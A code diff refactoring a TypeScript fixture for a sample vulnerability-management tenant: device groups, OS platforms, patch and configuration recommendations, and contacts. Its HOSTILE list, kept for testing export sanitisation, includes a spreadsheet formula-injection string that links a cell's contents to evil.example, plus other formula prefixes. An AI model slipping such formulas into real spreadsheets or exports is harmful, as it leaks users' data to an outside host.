@@ -1,8 +1,17 @@
-import type { RecommendationCategory, RemediationType } from '../../core/index.ts';
+import {
+  type DeviceGroupName,
+  deviceGroupName,
+  type Email,
+  email,
+  type RecommendationCategory,
+  type RemediationType,
+  type SeverityLevel,
+} from '../../core/index.ts';
 
 /**
  * The fixed cast of the sample tenant: device groups, OS mix, recommendations with the vendor's id
- * forms, people, and the hostile strings every export and page must survive.
+ * forms, people, and the hostile strings every export and page must survive. The storyline names
+ * groups and recommendations by the literal types derived here, so a typo fails to compile.
  */
 
 export interface GroupSpec {
@@ -12,7 +21,7 @@ export interface GroupSpec {
   readonly prefix: string;
 }
 
-export const GROUPS: readonly GroupSpec[] = [
+export const GROUPS = [
   { name: 'Finance', weight: 12, servers: false, prefix: 'fin' },
   { name: 'Engineering', weight: 22, servers: false, prefix: 'eng' },
   { name: 'Sales & "Marketing"', weight: 14, servers: false, prefix: 'sal' },
@@ -21,15 +30,28 @@ export const GROUPS: readonly GroupSpec[] = [
   { name: 'Servers-Prod', weight: 9, servers: true, prefix: 'srv' },
   { name: 'Servers-Dev', weight: 6, servers: true, prefix: 'dev' },
   { name: 'UnassignedGroup', weight: 4, servers: false, prefix: 'pc' },
-];
+] as const satisfies readonly GroupSpec[];
 
-export const WORKSTATION_OS: readonly (readonly [string, number])[] = [
+export type GroupName = (typeof GROUPS)[number]['name'];
+export const groupName = (name: GroupName): DeviceGroupName => deviceGroupName(name);
+export const GROUP_NAMES: readonly DeviceGroupName[] = GROUPS.map((g) => groupName(g.name));
+
+export type OsPlatform =
+  | 'Windows10'
+  | 'Windows11'
+  | 'macOS'
+  | 'Linux'
+  | 'WindowsServer2016'
+  | 'WindowsServer2019'
+  | 'WindowsServer2022';
+
+export const WORKSTATION_OS: readonly (readonly [OsPlatform, number])[] = [
   ['Windows10', 50],
   ['Windows11', 38],
   ['macOS', 7],
   ['Linux', 5],
 ];
-export const SERVER_OS: readonly (readonly [string, number])[] = [
+export const SERVER_OS: readonly (readonly [OsPlatform, number])[] = [
   ['WindowsServer2016', 15],
   ['WindowsServer2019', 35],
   ['WindowsServer2022', 35],
@@ -48,240 +70,288 @@ export interface RecommendationSpec {
   readonly remediationType: RemediationType;
   /** Share of applicable devices exposed at the start. */
   readonly prevalence: number;
-  readonly os: (os: string) => boolean;
+  /** The platforms it applies to. */
+  readonly platforms: readonly OsPlatform[];
   readonly weaknesses: number;
   readonly publicExploit: boolean;
-  readonly severity: 'Low' | 'Medium' | 'High' | 'Critical';
+  readonly severity: SeverityLevel;
 }
 
-const windows = (os: string) => os.startsWith('Windows');
-const workstationWindows = (os: string) => os === 'Windows10' || os === 'Windows11';
+export const appliesTo = (spec: RecommendationSpec, os: string): boolean =>
+  spec.platforms.some((p) => p === os);
 
-const software = (
-  vendor: string,
-  product: string,
-  name: string,
-  component: string,
-  version: string,
-  prevalence: number,
-  os: (os: string) => boolean,
-  weaknesses: number,
-  severity: RecommendationSpec['severity'],
-  remediationType: RemediationType = 'Update',
-): RecommendationSpec => ({
-  id: `va-_-${vendor}-_-${product}`,
-  productName: product,
-  vendor,
-  name,
-  component,
-  recommendedVersion: version,
+const WORKSTATION_WINDOWS: readonly OsPlatform[] = ['Windows10', 'Windows11'];
+const WINDOWS: readonly OsPlatform[] = [
+  ...WORKSTATION_WINDOWS,
+  'WindowsServer2016',
+  'WindowsServer2019',
+  'WindowsServer2022',
+];
+const EVERY_OS: readonly OsPlatform[] = [...WINDOWS, 'macOS', 'Linux'];
+
+interface SoftwareSpec<V extends string, P extends string> {
+  readonly vendor: V;
+  readonly product: P;
+  readonly name: string;
+  readonly component: string;
+  readonly version: string;
+  readonly prevalence: number;
+  readonly platforms: readonly OsPlatform[];
+  readonly weaknesses: number;
+  readonly severity: SeverityLevel;
+  /** Update unless given. */
+  readonly remediationType?: RemediationType;
+}
+
+const software = <V extends string, P extends string>(
+  s: SoftwareSpec<V, P>,
+): RecommendationSpec & { readonly id: `va-_-${V}-_-${P}` } => ({
+  id: `va-_-${s.vendor}-_-${s.product}`,
+  productName: s.product,
+  vendor: s.vendor,
+  name: s.name,
+  component: s.component,
+  recommendedVersion: s.version,
   category: 'Application',
   subCategory: '',
-  remediationType,
-  prevalence,
-  os,
-  weaknesses,
-  publicExploit: weaknesses > 40,
-  severity,
+  remediationType: s.remediationType ?? 'Update',
+  prevalence: s.prevalence,
+  platforms: s.platforms,
+  weaknesses: s.weaknesses,
+  publicExploit: s.weaknesses > 40,
+  severity: s.severity,
 });
 
-const configuration = (
-  scid: number,
-  name: string,
-  category: RecommendationCategory,
-  subCategory: string,
-  prevalence: number,
-  os: (os: string) => boolean,
-): RecommendationSpec => ({
-  id: `sca-_-scid-${scid}`,
+interface ConfigurationSpec<N extends number> {
+  readonly scid: N;
+  readonly name: string;
+  readonly category: RecommendationCategory;
+  readonly subCategory: string;
+  readonly prevalence: number;
+  readonly platforms: readonly OsPlatform[];
+}
+
+const configuration = <N extends number>(
+  c: ConfigurationSpec<N>,
+): RecommendationSpec & { readonly id: `sca-_-scid-${N}` } => ({
+  id: `sca-_-scid-${c.scid}`,
   productName: '',
   vendor: '',
-  name,
-  component: subCategory,
+  name: c.name,
+  component: c.subCategory,
   recommendedVersion: '',
-  category,
-  subCategory,
+  category: c.category,
+  subCategory: c.subCategory,
   remediationType: 'ConfigurationChange',
-  prevalence,
-  os,
+  prevalence: c.prevalence,
+  platforms: c.platforms,
   weaknesses: 0,
   publicExploit: false,
   severity: 'Medium',
 });
 
-export const RECOMMENDATIONS: readonly RecommendationSpec[] = [
-  software(
-    'google',
-    'chrome',
-    'Update Google Chrome to version 131.0.6778.86',
-    'Chrome',
-    '131.0.6778.86',
-    0.45,
-    windows,
-    212,
-    'Critical',
-  ),
-  software(
-    'microsoft',
-    'edge_chromium-based',
-    'Update Microsoft Edge Chromium-based to version 131.0.2903.70',
-    'Edge Chromium-based',
-    '131.0.2903.70',
-    0.5,
-    windows,
-    176,
-    'High',
-  ),
-  software(
-    'oracle',
-    'jre',
-    'Update Oracle Jre to version 8.0.431',
-    'Java Runtime Environment',
-    '8.0.431',
-    0.12,
-    () => true,
-    64,
-    'High',
-  ),
-  software(
-    'mozilla',
-    'firefox',
-    'Update Mozilla Firefox to version 133.0',
-    'Firefox',
-    '133.0',
-    0.12,
-    (os) => os !== 'Linux',
-    38,
-    'High',
-  ),
-  software(
-    'adobe',
-    'acrobat_reader_dc',
-    'Update Adobe Acrobat Reader DC to version 24.5.20320',
-    'Acrobat Reader DC',
-    '24.5.20320',
-    0.15,
-    workstationWindows,
-    27,
-    'Medium',
-  ),
-  software(
-    '7-zip',
-    '7-zip',
-    'Update 7-zip to version 24.8.0.0',
-    '7-zip',
-    '24.8.0.0',
-    0.1,
-    windows,
-    4,
-    'Medium',
-  ),
-  software(
-    'microsoft',
-    'silverlight',
-    'Uninstall Microsoft Silverlight',
-    'Microsoft Silverlight',
-    '',
-    0.03,
-    workstationWindows,
-    55,
-    'Critical',
-    'Uninstall',
-  ),
-  software(
-    'videolan',
-    'vlc_media_player',
-    'Update Videolan Vlc Media Player to version 3.0.21.0',
-    'VLC media player',
-    '3.0.21.0',
-    0.06,
-    workstationWindows,
-    9,
-    'Low',
-  ),
-  software(
-    'microsoft',
-    'windows_10',
-    'Update Windows 10 (OS and built-in applications)',
-    'Windows 10',
-    '10.0.19045.5247',
-    0.3,
-    (os) => os === 'Windows10',
-    312,
-    'Critical',
-  ),
-  software(
-    'microsoft',
-    'windows_server_2016',
-    'Update Windows Server 2016',
-    'Windows Server 2016',
-    '10.0.14393.7606',
-    0.5,
-    (os) => os === 'WindowsServer2016',
-    288,
-    'Critical',
-  ),
-  software(
-    'openssl',
-    'openssl',
-    'Update Openssl to version 3.0.15',
-    'OpenSSL',
-    '3.0.15',
-    0.4,
-    (os) => os === 'Linux',
-    21,
-    'High',
-  ),
-  software(
-    'apple',
-    'safari',
-    'Update Apple Safari to version 18.1',
-    'Safari',
-    '18.1',
-    0.35,
-    (os) => os === 'macOS',
-    17,
-    'Medium',
-  ),
-  configuration(
-    2010,
-    'Turn on Microsoft Defender Antivirus PUA protection in block mode',
-    'SecurityControls',
-    'Antivirus',
-    0.1,
-    windows,
-  ),
-  configuration(
-    2011,
-    'Update Microsoft Defender Antivirus definitions',
-    'SecurityControls',
-    'Antivirus',
-    0.06,
-    windows,
-  ),
-  configuration(90, "Disable 'Autoplay' for all drives", 'OS', 'Autoplay', 0.12, workstationWindows),
-  configuration(4002, 'Disable SMBv1 client driver', 'Network', 'SMB', 0.05, windows),
-  configuration(1001, 'Enable Microsoft Defender Firewall', 'Network', 'Firewall', 0.04, windows),
-  configuration(
-    5001,
-    "Set 'Minimum password length' to '14 or more character(s)'",
-    'Accounts',
-    'Password policy',
-    0.08,
-    windows,
-  ),
-];
+export const RECOMMENDATIONS = [
+  software({
+    vendor: 'google',
+    product: 'chrome',
+    name: 'Update Google Chrome to version 131.0.6778.86',
+    component: 'Chrome',
+    version: '131.0.6778.86',
+    prevalence: 0.45,
+    platforms: WINDOWS,
+    weaknesses: 212,
+    severity: 'Critical',
+  }),
+  software({
+    vendor: 'microsoft',
+    product: 'edge_chromium-based',
+    name: 'Update Microsoft Edge Chromium-based to version 131.0.2903.70',
+    component: 'Edge Chromium-based',
+    version: '131.0.2903.70',
+    prevalence: 0.5,
+    platforms: WINDOWS,
+    weaknesses: 176,
+    severity: 'High',
+  }),
+  software({
+    vendor: 'oracle',
+    product: 'jre',
+    name: 'Update Oracle Jre to version 8.0.431',
+    component: 'Java Runtime Environment',
+    version: '8.0.431',
+    prevalence: 0.12,
+    platforms: EVERY_OS,
+    weaknesses: 64,
+    severity: 'High',
+  }),
+  software({
+    vendor: 'mozilla',
+    product: 'firefox',
+    name: 'Update Mozilla Firefox to version 133.0',
+    component: 'Firefox',
+    version: '133.0',
+    prevalence: 0.12,
+    platforms: EVERY_OS.filter((os) => os !== 'Linux'),
+    weaknesses: 38,
+    severity: 'High',
+  }),
+  software({
+    vendor: 'adobe',
+    product: 'acrobat_reader_dc',
+    name: 'Update Adobe Acrobat Reader DC to version 24.5.20320',
+    component: 'Acrobat Reader DC',
+    version: '24.5.20320',
+    prevalence: 0.15,
+    platforms: WORKSTATION_WINDOWS,
+    weaknesses: 27,
+    severity: 'Medium',
+  }),
+  software({
+    vendor: '7-zip',
+    product: '7-zip',
+    name: 'Update 7-zip to version 24.8.0.0',
+    component: '7-zip',
+    version: '24.8.0.0',
+    prevalence: 0.1,
+    platforms: WINDOWS,
+    weaknesses: 4,
+    severity: 'Medium',
+  }),
+  software({
+    vendor: 'microsoft',
+    product: 'silverlight',
+    name: 'Uninstall Microsoft Silverlight',
+    component: 'Microsoft Silverlight',
+    version: '',
+    prevalence: 0.03,
+    platforms: WORKSTATION_WINDOWS,
+    weaknesses: 55,
+    severity: 'Critical',
+    remediationType: 'Uninstall',
+  }),
+  software({
+    vendor: 'videolan',
+    product: 'vlc_media_player',
+    name: 'Update Videolan Vlc Media Player to version 3.0.21.0',
+    component: 'VLC media player',
+    version: '3.0.21.0',
+    prevalence: 0.06,
+    platforms: WORKSTATION_WINDOWS,
+    weaknesses: 9,
+    severity: 'Low',
+  }),
+  software({
+    vendor: 'microsoft',
+    product: 'windows_10',
+    name: 'Update Windows 10 (OS and built-in applications)',
+    component: 'Windows 10',
+    version: '10.0.19045.5247',
+    prevalence: 0.3,
+    platforms: ['Windows10'],
+    weaknesses: 312,
+    severity: 'Critical',
+  }),
+  software({
+    vendor: 'microsoft',
+    product: 'windows_server_2016',
+    name: 'Update Windows Server 2016',
+    component: 'Windows Server 2016',
+    version: '10.0.14393.7606',
+    prevalence: 0.5,
+    platforms: ['WindowsServer2016'],
+    weaknesses: 288,
+    severity: 'Critical',
+  }),
+  software({
+    vendor: 'openssl',
+    product: 'openssl',
+    name: 'Update Openssl to version 3.0.15',
+    component: 'OpenSSL',
+    version: '3.0.15',
+    prevalence: 0.4,
+    platforms: ['Linux'],
+    weaknesses: 21,
+    severity: 'High',
+  }),
+  software({
+    vendor: 'apple',
+    product: 'safari',
+    name: 'Update Apple Safari to version 18.1',
+    component: 'Safari',
+    version: '18.1',
+    prevalence: 0.35,
+    platforms: ['macOS'],
+    weaknesses: 17,
+    severity: 'Medium',
+  }),
+  configuration({
+    scid: 2010,
+    name: 'Turn on Microsoft Defender Antivirus PUA protection in block mode',
+    category: 'SecurityControls',
+    subCategory: 'Antivirus',
+    prevalence: 0.1,
+    platforms: WINDOWS,
+  }),
+  configuration({
+    scid: 2011,
+    name: 'Update Microsoft Defender Antivirus definitions',
+    category: 'SecurityControls',
+    subCategory: 'Antivirus',
+    prevalence: 0.06,
+    platforms: WINDOWS,
+  }),
+  configuration({
+    scid: 90,
+    name: "Disable 'Autoplay' for all drives",
+    category: 'OS',
+    subCategory: 'Autoplay',
+    prevalence: 0.12,
+    platforms: WORKSTATION_WINDOWS,
+  }),
+  configuration({
+    scid: 4002,
+    name: 'Disable SMBv1 client driver',
+    category: 'Network',
+    subCategory: 'SMB',
+    prevalence: 0.05,
+    platforms: WINDOWS,
+  }),
+  configuration({
+    scid: 1001,
+    name: 'Enable Microsoft Defender Firewall',
+    category: 'Network',
+    subCategory: 'Firewall',
+    prevalence: 0.04,
+    platforms: WINDOWS,
+  }),
+  configuration({
+    scid: 5001,
+    name: "Set 'Minimum password length' to '14 or more character(s)'",
+    category: 'Accounts',
+    subCategory: 'Password policy',
+    prevalence: 0.08,
+    platforms: WINDOWS,
+  }),
+] as const;
 
-export const REQUESTERS: readonly string[] = [
+export type RecommendationKey = (typeof RECOMMENDATIONS)[number]['id'];
+
+export function recommendationSpec(key: RecommendationKey): RecommendationSpec {
+  const spec = RECOMMENDATIONS.find((s) => s.id === key);
+  if (!spec) throw new Error(`no recommendation ${key} in the catalogue`);
+  return spec;
+}
+
+export const REQUESTERS: readonly Email[] = [
   'alice.martin@contoso.com',
   'bo.chen@contoso.com',
   'carla.diaz@contoso.com',
   'dev.patel@contoso.com',
-];
-export const ADMIN = 'secops-admin@contoso.com';
+].map(email);
+export const ADMIN: Email = email('secops-admin@contoso.com');
 
 /** Formula prefixes, markup, quotes, separators, newlines and CJK text: what exports must neutralise. */
-export const HOSTILE: readonly string[] = [
+export const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   '+SUM(1,2)',
   '-2+3 (negative, not a formula)',
@@ -290,7 +360,7 @@ export const HOSTILE: readonly string[] = [
   'Said "patch it", then didn\'t; a, b, c',
   'First line\nSecond line\r\nThird line',
   '请在周五前完成修正，谢谢。Tab\there.',
-];
+] as const;
 
 export const NOTES: readonly string[] = [
   'Please patch during the next maintenance window.',
